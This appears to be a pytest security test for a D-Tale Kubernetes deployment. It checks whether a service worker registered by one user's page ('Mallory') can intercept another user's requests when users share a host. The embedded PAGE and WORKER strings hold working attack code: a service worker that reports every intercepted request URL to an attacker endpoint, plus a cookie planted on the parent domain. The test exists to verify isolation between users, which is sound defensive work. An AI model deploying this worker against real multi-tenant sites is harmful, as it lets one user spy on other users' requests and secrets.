"""What a page of one user can do to another in a browser: one origin each, and the attack on one.

A service worker that one user's page registers hears every request of its origin.
"""

from __future__ import annotations

import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from dtale_magics.kubernetes import Options, Server, render
from dtale_magics.kubernetes.server import url_template
from tests.support.browser import open_browser
from tests.support.cluster import ECHO_IPS, pod_object

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.support.api_stub import ApiStub
    from tests.support.traefik_process import Traefik

pytestmark = pytest.mark.filterwarnings("ignore::ResourceWarning")

PAGE = """<script>
navigator.serviceWorker.register('worker.js', {scope: '/'})
  .then(() => navigator.serviceWorker.ready).then(() => { document.title = 'registered'; });
document.cookie = 'planted=1; domain=dtale.example.test; path=/';
</script>"""
WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', event => event.waitUntil(clients.claim()));
self.addEventListener('fetch', event => event.waitUntil(
  fetch('HEARD?' + encodeURIComponent(event.request.url))));
"""


class Mallory:
    """A user's pod whose page has a service worker, and that writes down what that one hears."""

    def __init__(self, address: str) -> None:
        self.heard: list[str] = []
        self.home = "/"
        mallory = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path, _, query = self.path.partition("?")
                if path.endswith("/heard"):
                    mallory.heard.append(query)
                kinds = {"worker.js": ("text/javascript", WORKER), "heard": ("text/plain", "")}
                kind, text = kinds.get(path.rpartition("/")[2], ("text/html", PAGE))
                body = text.replace("HEARD", f"{mallory.home}heard").encode()
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Service-Worker-Allowed", "/")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer((address, 0), Handler)
        self._server.daemon_threads = True
        self.port = self._server.server_port
        self._thread = threading.Thread(target=self._server.serve_forever, args=(0.05,))

    @contextmanager
    def serving(self) -> Iterator[None]:
        self._thread.start()
        try:
            yield
        finally:
            self._server.shutdown()
            self._thread.join(5)
            self._server.server_close()


@pytest.mark.parametrize(
    ("where", "separate"),
    [
        ({"host": "{user}.dtale.example.test"}, True),
        # The control: what --shared-host warns of.
        ({"host": "apps.example.test", "path": "/dtale/{user}", "shared_host": True}, False),
    ],
    ids=["hosts", "paths"],
)
def test_a_worker_of_one_users_page_hears_nothing_of_anothers(
    where: dict[str, Any], *, separate: bool, api: ApiStub, traefik: Traefik, dtale_pod: str
) -> None:
    assert dtale_pod
    mallory = Mallory("127.0.0.1")
    common = {**where, "ingress_class": "traefik", "public_port": traefik.port}
    evil = Options.of(**common, ports=[mallory.port])
    good = Options.of(**common)
    servers = {user: Server(user, namespace="jhub") for user in ("mallory", "ada")}
    urls = {
        "mallory": url_template(evil, servers["mallory"]),
        "ada": url_template(good, servers["ada"]),
    }
    mallory.home = f"{urlsplit(urls['mallory']).path}/"
    api.put(pod_object("mallory", "127.0.0.1"), *render(evil, servers["mallory"]))
    api.put(pod_object("ada", ECHO_IPS[0]), *render(good, servers["ada"]))
    flags = [
        "--host-resolver-rules=MAP *.test 127.0.0.1",
        # Workers run on https alone, which the certificates are not here for.
        "--unsafely-treat-insecure-origin-as-secure="
        + ",".join(f"http://{urlsplit(url).netloc}" for url in urls.values()),
    ]
    with mallory.serving(), open_browser(*flags) as browser:
        for parts in map(urlsplit, urls.values()):
            traefik.until_status(200, parts.hostname or "", f"{parts.path}/")
        page = browser.new_context().new_page()
        page.goto(f"{urls['mallory']}/")
        page.wait_for_function("document.title === 'registered'")
        page.goto(f"{urls['ada']}/secret-slug/dtale/main/1")
        told = page.evaluate("fetch('dtale/data/1').then(answer => answer.json())")
        assert told["address"] == ECHO_IPS[0]
        if separate:
            assert not mallory.heard
            assert page.evaluate("navigator.serviceWorker.controller") is None
        else:
            page.wait_for_timeout(100)
            traefik.until(lambda: any("secret-slug" in url for url in mallory.heard), "it hears")
